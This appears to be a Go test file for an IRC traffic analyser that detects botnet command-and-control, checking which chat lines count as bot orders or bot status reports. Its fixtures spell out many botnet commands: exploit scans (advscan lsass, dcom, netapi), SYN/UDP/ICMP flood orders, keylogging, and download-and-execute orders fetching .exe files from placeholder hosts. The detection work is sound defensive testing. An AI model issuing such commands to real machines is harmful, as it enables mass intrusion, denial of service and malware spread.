package irc

import (
	"slices"
	"strings"
	"testing"
)

// ordersIn returns the verbs that a session finds in a text that somebody sends it.
func ordersIn(t *testing.T, text string) []string {
	k := newCaller(t, false)
	k.send(true, []byte(":boss!b@h PRIVMSG #x :"+text+"\r\n"))
	if got := k.session.Facts()&Ordered != 0; got != (len(k.session.Orders()) > 0) {
		t.Errorf("%q: Ordered is %v", text, got)
	}
	return k.session.Orders()
}

func TestOrders(t *testing.T) {
	for text, want := range map[string]string{
		".advscan dcom135 200 3 0 -r -s":    "advscan",
		"advscan asn1smb 150 5 0 -b -r -s":  "advscan",
		"advscan":                           "advscan",
		"!AdvScan lsass 100 5 0":            "advscan",
		".advscan xyz 100 5 0":              "advscan",
		"!asc lsass":                        "asc",
		"asc netapi 100 5 0 -r":             "asc",
		",ntscan":                           "ntscan",
		"$ntscan 100":                       "ntscan",
		"~sdscan":                           "sdscan",
		"@lsass_445 100":                    "lsass_445",
		"-netapi 100":                       "netapi",
		"%dcom2 50 5":                       "dcom2",
		"&ms06_040 100":                     "ms06_040",
		"*asn445 100":                       "asn445",
		"lsass 100 5 0 -r":                  "lsass",
		".scan 192.168.x.x 445 10":          "scan",
		".scan netapi":                      "scan",
		".scanall":                          "scanall",
		".scan.start":                       "scan.start",
		"scan.startall":                     "scan.startall",
		".scan.addnetrange 10.0.0.0/8 100":  "scan.addnetrange",
		"ddos.syn 192.0.2.1 80 60":          "ddos.syn",
		"ddos.syn":                          "ddos.syn",
		".ddos.phatwonk 192.0.2.1 80 60":    "ddos.phatwonk",
		".ddos syn 192.0.2.1 80 60":         "ddos",
		"ddos 192.0.2.1 80 60":              "ddos",
		".syn victim.example 80 60":         "syn",
		"!udp 192.0.2.1 1000 65000 10":      "udp",
		".icmpflood 192.0.2.1 60":           "icmpflood",
		".ping 192.0.2.1 1000 65500 1":      "ping",
		".portscan 192.0.2.1 1 1024":        "portscan",
		".httpcon www.example.net 80 GET /": "httpcon",
		".http.execute http://x.example/a.exe c:\\a.exe": "http.execute",
		"http.execute http://x.example/a.exe c:\\a.exe":  "http.execute",
		".ftp.update ftp://x.example/a.exe":              "ftp.update",
		".bot.remove":                                    "bot.remove",
		".download http://www.example.net/b.exe b.exe 1": "download",
		"!dl x.example/b.exe":                            "dl",
		"!wget 1 http://x.example/b.exe":                 "wget",
		".update http://x.example/c.exe 1234":            "update",
		".visit http://x.example/ 5":                     "visit",
		".download http://x.example/a c:\\a.exe 1":       "download",
		".open http://x.example/d/a.scr":                 "open",
		".open c:\\windows\\x.exe":                       "open",
		".execute 1 %temp%\\a.exe":                       "execute",
		"!spread on":                                     "spread",
		"!!download http://x.example/a 1":                "download",
		".keylog on":                                     "keylog",
		".socks4 1080":                                   "socks4",
		"udpflood 192.0.2.1 53 60":                       "udpflood",
		"  .advscan 445":                                 "advscan",
		"\x02.advscan\x02 445":                           "advscan",
		"\x0304,12.advscan 445":                          "advscan",
		"\x01.advscan 445\x01":                           "advscan",
		"!* SH wget http://x.example/a":                  "sh",
		"!*bot* TSUNAMI 192.0.2.1 60":                    "tsunami",
		".rsl.reboot":                                    "rsl.reboot", ".redirect.socks 1080": "redirect.socks", ".harvest.emails": "harvest.emails",
		"!bot @udpflood 192.0.2.1 53 60":                         "udpflood",
		".login x|.advscan 445 | !update http://x.example/a.exe": "advscan update",
	} {
		if got := strings.Join(ordersIn(t, text), " "); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestPeopleGiveNoOrders(t *testing.T) {
	for _, text := range []string{
		"", " ", ".", "!", "...", "..", "|", "||", "please scan this", "I will update later", "!help", "update: done", "!update", ".update done",
		"download it at http://x.example/a.exe", ".download it at http://x.example/", "download http://x.example/a.exe", "update http://x.example/",
		"scan 192.0.2.1 445", "!scan", "!scan me please", "!scan bob", "open", "!open the door", ".open", "execute", "!run", "!run 5", "visit http://x.example/",
		"!ddos bob", "ddos 2 days ago, again", "ddos", "ddos.com is down", "ddos me", "syn 192.0.2.1 80", "!ping", "!ping bob", "!ping x.example", "ping 192.0.2.1 5",
		"advscan is a command of theirs", "they use .advscan 445", "lsass crashed again", "lsass.exe eats my CPU", "lsass 2 times crashed", ".lsass.exe", "dcom is broken",
		"netapi32.dll is missing", "asc files are signatures", ".asc files are signatures", "asn 3320 is DTAG", "!asn 3320", "ms06-040 is out", "portscan from 192.0.2.1",
		"...download http://x.example/", "scan.exe found something", "http.download is the function", "bot.remove does it", "!advscan: what is it", "!spread the word", "spread on toast",
		"welcome | rules: http://x.example/ | scan 445 445 445 | download http://x.example/", ":-) update", "* update http://x.example/", "- open http://x.example/",
		"!* hello", "!bot @help", "!bot update", "!seen sh 1", "`update` http://x.example/", ".scan.foo", ".ddos.foo", ".http.get http://x.example/", "!ms 5", "!wins 5", "!http.execute: x",
		"update 1.2.3 is out", "!update 1.2.3", "!dl", "!dl bob's", ".visit us", "@anna open http://x.example/", "~ ~ ~", "&amp; open", "100% update http://x.example/",
		"!ping 192.0.2.1 4", ".ping x.example 5", "!tcp x.example 443", "!http x.example 80", "!portscan x.example", "!scan 192.0.2.1 22", "!scan 5 10",
		"!download https://x.example/watch", "!dl http://x.example/song", "!update https://x.example/wiki", "!open http://x.example/", "!open http://firma.pl",
		".visit http://x.example", "!wget http://x.example/a.html", "!wget 3 http://x.example/a.html", "!run 5 http://x.example/", "!open http://x.example/ http://y.example/",
		"!webdav", "!netbios", "!upnp", "!pnp", "!symantec", "&veritas", "!mssql", "mssql db.example.org 1433", "webdav 192.0.2.1 443", "!lsass", "!dcom", "!sub7", "!asn1",
		"!ms08-067", "!ms08_067", "!asc", "!keylog", "!socks4", "!synflood", "http.update", "ftp.download", "bot.open", "scan.on", "scan.start", "!spread 5",
	} {
		if got := ordersIn(t, text); got != nil {
			t.Errorf("%q: %q", text, got)
		}
	}
}

func TestOrdersComeByTopicAndNotice(t *testing.T) {
	for line, want := range map[string]bool{
		":s 332 a #x :.advscan 445":         true,
		":s 332 a #x .advscan":              true,
		":op!o@h TOPIC #x :.advscan 445":    true,
		":op!o@h NOTICE a :.advscan 445":    true,
		"PRIVMSG a :.advscan 445":           true,
		":op!o@h PRIVMSG @#x :.advscan 445": true,
		":s 372 a :.advscan 445":            false,
		":s 332 a :.advscan 445":            false,
		":s 332 a x :.advscan 445":          false,
		"332 a #x :.advscan 445":            true,
		"332 a x :.advscan 445":             false,
		":op!o@h TOPIC x :.advscan 445":     false,
		":op!o@h PRIVMSG :.advscan":         false,
		":op!o@h KICK #x a :.advscan 445":   false,
	} {
		k := newCaller(t, false)
		k.send(true, []byte(line+"\r\n"))
		if got := k.session.Facts()&Ordered != 0; got != want {
			t.Errorf("%q: %v", line, got)
		}
	}
	k := newCaller(t, false)
	k.send(false, []byte("NICK a\r\nPRIVMSG #x :.advscan 445\r\nTOPIC #x :.advscan 445\r\n"))
	if k.session.Facts()&Ordered != 0 {
		t.Error("the client's own words are an order")
	}
}

func TestOrdersAreDistinctAndBounded(t *testing.T) {
	k := newCaller(t, false)
	var want []string
	for i := range 20 {
		verb := "dcom" + strings.Repeat("1", i)
		k.send(true, []byte(":b!b@h PRIVMSG #x :."+verb+"\r\n:b!b@h PRIVMSG #x :!"+strings.ToUpper(verb)+" 1\r\n"))
		if i < ordersKept {
			want = append(want, verb)
		}
	}
	if got := k.session.Orders(); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	long := newCaller(t, false)
	long.send(true, []byte(":b!b@h PRIVMSG #x :.ms"+strings.Repeat("1", 300)+" 1\r\n"))
	if got := long.session.Orders(); len(got) != 1 || len(got[0]) != orderSize {
		t.Errorf("%q", got)
	}
}

func TestReports(t *testing.T) {
	reported := func(text string) bool {
		k := newCaller(t, false)
		k.send(false, []byte("NICK a\r\nPRIVMSG #x :"+text+"\r\n"))
		return k.session.Facts()&Reported != 0
	}
	for _, text := range []string{
		"[SCAN]: Random Port Scan started on 10.0.x.x:445", "[MAIN]: Status: Ready.", "[lsass]: exploiting 192.0.2.1", "[ASN1SMB]: Exploiting IP: 192.0.2.1.",
		"[DOWNLOAD]: Downloading URL: http://x.example/b.exe to: b.exe.", "[DOWNLOAD]: Downloaded 28.6 KB to b.exe @ 28.6 KB/sec.", "[DOWNLOAD]: Opened: b.exe.",
		"[FTP]: File transfer complete to IP: 192.0.2.1 (c:\\x.exe).", "[DDoS]: Flooding: (192.0.2.1:80) for 60 seconds.",
		"[ICMP]: Flooding: (192.0.2.1) for 60 seconds.", "[UDP]: Sending 500 packets to: 192.0.2.1. Packet size: 512", "[SYN]: Flooding: (192.0.2.1:80) for 60 seconds.",
		"[HTTPD]: Server listening on IP: 192.0.2.1:81, Directory: \\.", "[UPDATE]: Downloading update from: http://x.example/c.exe.", "[MAIN]: Bot ID: rx-a.", "[MAIN]: User: x logged in.",
		"[CMD]: Remote shell ready.", "[EXEC]: Commands: dir", "[PROC]: Listing processes:", ".::[SCAN]::. Scanning", "(TFTP): File transfer started",
		"\x02[\x0304SCAN\x03]\x02: Exploiting", "[KEYLOG]: x", "[netapi]: Exploited 192.0.2.1.",
	} {
		if !reported(text) {
			t.Errorf("%q is a report", text)
		}
	}
	for _, text := range []string{
		"", "[", "[]", "[SCAN]", "[SCAN]:", "[SCAN] chapter 5 is out", "[scan]: chapter 5", "[main]: a push", "[UPDATE]: server is back", "[UPDATE]: new version at http://x.example/",
		"[DOWNLOAD]: http://x.example/a.exe", "[FTP]: file is there", "[anna]: hello", "SCAN: x", "see [SCAN]: x", "[SCAN): x", "<anna>: [SCAN]: x", "[ANNA]: hello", "[HTTP]: hello", "[NET]: failed again",
		"[MSSQL]: backup of 192.0.2.1 is done", "[UPNP]: mapped port 445", "[veritas]: job failed", "[dcom]: off by default",
		"[MAIN]: deployed", "[MAIN]: status is green", "[ICMP]: 192.0.2.1 is down", "[UDP]: port 53 of 192.0.2.1", "[CMD]: ls", "[EXEC]: nightly job", "[PROC]: low memory",
		"[PING]: server failed 192.0.2.1", "[HTTP]: error on http://x.example/ 500", "[UPDATE]: failed http://x.example/", "(UDP): x", "[SYN]: flood in 192.0.2.1",
		"[REDIRECT]: http://x.example/ to http://y.example/",
	} {
		if reported(text) {
			t.Errorf("%q is no report", text)
		}
	}
	k := newCaller(t, false)
	k.send(true, []byte(":b!b@h PRIVMSG #x :[SCAN]: Exploiting\r\n"))
	if k.session.Facts()&Reported != 0 {
		t.Error("another's words are a report of the client")
	}
}
